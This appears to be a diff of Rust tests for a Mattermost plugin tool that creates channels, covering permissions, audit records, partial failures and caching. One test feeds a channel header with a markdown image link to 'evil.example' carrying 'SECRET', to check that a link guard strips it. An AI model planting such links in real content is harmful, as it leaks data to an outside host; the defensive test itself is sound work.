@@ -1,9 +1,10 @@
-use devhost::world::{Account, ChannelKind};
+use devhost::world::{Account, ChannelKind, Sample, World};
 use mattermost_plugin::Interface;
 use mattermost_plugin::ids::{ChannelId, UserId};
 use mattermost_plugin_mcp::test_kit::LlmAnswer;
 use serde_json::{Value, json};
 
+use crate::manifest::ID;
 use crate::scene::Scene;
 
 const TOOL: &str = "create_channel";
@@ -69,6 +70,22 @@ async fn a_channel_is_created_with_its_creator_as_admin_and_people_in_it() {
         record.event_data.result_state["channel_id"],
         Interface::from(id.as_str())
     );
+    let ids = |names: [&str; 2]| {
+        let mut ids = names.map(|name| scene.world.user_id(name).unwrap().to_string());
+        ids.sort();
+        ids
+    };
+    for (fields, key) in [
+        (&record.event_data.parameters, "user_ids"),
+        (&record.event_data.result_state, "added_user_ids"),
+    ] {
+        let Interface::String(told) = &fields[key] else {
+            panic!("{fields:?}");
+        };
+        let mut told: Vec<_> = told.as_str().split(' ').collect();
+        told.sort_unstable();
+        assert_eq!(told, ids(["bob", "grace"]), "{key}");
+    }
     assert!(!format!("{record:?}").contains("Apollo"));
 }
 
@@ -106,7 +123,7 @@ async fn who_may_create_what() {
         (
             &sample.gus,
             channel("X1"),
-            "Client error: you lack permission create_public_channel in team Acme",
+            "Client error: you lack permission create_public_channel in team acme",
         ),
         (&eve, channel("X1"), "Client error: you are in no team"),
         (&sample.olga, channel("X1"), "Authentication failed"),
@@ -151,7 +168,7 @@ async fn who_may_create_what() {
     let text = scene.refusal(&sample.ada, TOOL, arguments).await;
     assert_eq!(
         text,
-        "Client error: you lack permission create_private_channel in team Acme"
+        "Client error: you lack permission create_private_channel in team acme"
     );
     scene.world.revoke("system_user", "create_group_channel");
     let text = scene
@@ -226,7 +243,6 @@ async fn a_step_that_fails_does_not_hide_what_is_there() {
     for (method, done) in [
         ("CreateChannel", ""),
         ("AddChannelMember", "created ~apollo (id "),
-        ("UpdateChannelMemberRoles", "made you a member"),
     ] {
         let scene = Scene::new().await;
         scene.break_call(method);
@@ -237,9 +253,62 @@ async fn a_step_that_fails_does_not_hide_what_is_there() {
         let there = scene.world.channel_id(&scene.sample.acme, "apollo");
         assert_eq!(there.is_some(), !done.is_empty(), "{method}");
         let record = &scene.world.audit_records()[0];
-        let expected = if there.is_some() { "success" } else { "fail" };
-        assert_eq!(record.status, expected, "{method}: the channel itself");
+        assert_eq!(record.status, "fail", "{method}");
+        let told = record.event_data.result_state.get("channel_id");
+        let there = there.map(|id| Interface::from(id.as_str()));
+        assert_eq!(told, there.as_ref(), "{method}: the channel itself");
     }
+}
+
+#[tokio::test]
+async fn a_channel_whose_creator_cannot_be_its_admin_is_as_good() {
+    let scene = Scene::new().await;
+    let bob = colleague(&scene, "bob");
+    scene.break_call("UpdateChannelMemberRoles");
+    let arguments = json!({"display_name": "Apollo", "users": ["@bob"]});
+    let answer = scene.call(&scene.sample.ada, TOOL, arguments).await;
+    let id = id(&answer);
+    let note =
+        "\n@bob: added\nYou are a member of it, but the server did not make you its admin (ref ";
+    assert!(answer.text.contains(note), "{answer:?}");
+    assert!(scene.world.channel_member(&id, &bob).is_some());
+}
+
+#[tokio::test]
+async fn a_guest_who_may_create_channels_is_the_admin_of_their_own() {
+    let scene = Scene::new().await;
+    let gus = &scene.sample.gus;
+    scene.world.grant("team_guest", "create_public_channel");
+    let answer = scene.call(gus, TOOL, channel("Apollo")).await;
+    let member = scene.world.channel_member(&id(&answer), gus).unwrap();
+    assert!(member.scheme_guest && member.scheme_admin, "{member:?}");
+    assert!(!answer.text.contains("did not make you"), "{answer:?}");
+}
+
+#[tokio::test]
+async fn what_is_said_of_a_new_channel_goes_through_the_link_guard() {
+    let scene = Scene::new().await;
+    let arguments = json!({
+        "display_name": "Apollo",
+        "header": "![](https://evil.example/p.png?d=SECRET)",
+    });
+    let answer = scene.call(&scene.sample.ada, TOOL, arguments).await;
+    let made = scene.world.channel(&id(&answer)).unwrap();
+    assert!(!made.header.contains("!["), "{made:?}");
+    assert!(answer.text.contains("\nLink guard: "), "{answer:?}");
+}
+
+#[tokio::test]
+async fn a_channel_that_was_just_made_is_not_looked_up_again() {
+    // The admin's list names a channel of that name, so each look at the list asks for the team.
+    let denied =
+        |world: &World, _: &Sample| world.set_plugin_setting(ID, "DeniedChannels", "x/apollo");
+    let scene = Scene::with(denied).await;
+    let arguments = json!({"display_name": "Apollo", "preview": true});
+    scene.text(&scene.sample.ada, TOOL, arguments).await;
+    let checked = scene.world.calls("GetTeam");
+    scene.text(&scene.sample.ada, TOOL, channel("Apollo")).await;
+    assert_eq!(scene.world.calls("GetTeam"), 2 * checked);
 }
 
 #[tokio::test]
